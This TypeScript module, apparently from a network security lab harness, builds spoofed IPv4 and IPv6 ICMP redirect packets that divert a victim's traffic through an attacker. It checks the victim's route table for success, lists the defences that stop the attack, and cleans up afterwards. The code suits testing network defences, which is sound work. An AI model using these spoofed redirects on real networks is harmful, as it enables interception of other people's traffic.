// SPDX-License-Identifier: Apache-2.0
import { bytes, concat, ethernet, icmp6, internetChecksum, ip, mac, packet, u16 } from "../../lab/packet.ts";
import type { Attack } from "../attack.ts";
import { anyOf, believed, linkLocal, says } from "../evidence.ts";
import type { Field, Party, Station } from "../field.ts";

/** Hosts of the internet, as examples (RFC 5737, RFC 3849). */
const far = { v4: "198.51.100.7", v6: "2001:db8:77::7", prefix: "2001:db8:77::/64" };

/** RFC 792: for that host there is a better router. An echo reply that the victim sent is the reason given: kernels look up no socket for it. */
function redirect4(attacker: Party, victim: Party, router: Party): Uint8Array {
  const message = concat([bytes(5, 1, 0, 0), ip(attacker.v4), packet(victim.v4, far.v4, 1, bytes(0, 0, 0xff, 0xff, 0, 0, 0, 0))]);
  message.set(u16(internetChecksum(message)), 2);
  return ethernet({ from: attacker.mac, to: victim.mac }, 0x0800, packet(router.v4, victim.v4, 1, message));
}

/** RFC 4861, 4.5. */
function redirect6(attacker: Party, victim: Party, router: Party): Uint8Array {
  const message = concat([bytes(137, 0, 0, 0, 0, 0, 0, 0), ip(linkLocal(attacker)), ip(far.v6), bytes(2, 1), mac(attacker.mac)]);
  return ethernet({ from: attacker.mac, to: victim.mac }, 0x86dd, icmp6(linkLocal(router), linkLocal(victim), message));
}

const drawn = ({ attacker, router }: Field, victim: Station): Record<string, Promise<boolean>> => ({
  [`v4 of ${victim.name}`]: believed(attacker, [redirect4(attacker, victim, router)], () => says(victim, ["ip", "route", "get", far.v4], `via ${attacker.v4}`)),
  [`v6 of ${victim.name}`]: believed(attacker, [redirect6(attacker, victim, router)], () => says(victim, ["ip", "-6", "route", "get", far.v6], `via ${linkLocal(attacker)}`)),
});

export const icmpRedirect: Attack = {
  slug: "icmp-redirect",
  needs: "a place on the network",
  gains: "what the victim sends to a host of the internet comes to the attacker",
  stoppedBy: "binding: a redirect has the router's address as its source; guard: stations send no redirects",
  run: async (field) => {
    const victims = [field.victim, field.distant];
    const route = (word: string): Promise<unknown> => Promise.all(victims.map((victim) => victim.run(["ip", "-6", "route", word, far.prefix, "via", linkLocal(field.router), "dev", victim.device])));
    await route("replace");
    try {
      return await anyOf(field, { ...drawn(field, field.victim), ...drawn(field, field.distant) });
    } finally {
      await route("delete");
      await Promise.all(victims.map((victim) => victim.run(["ip", "route", "flush", "cache"])));
    }
  },
};
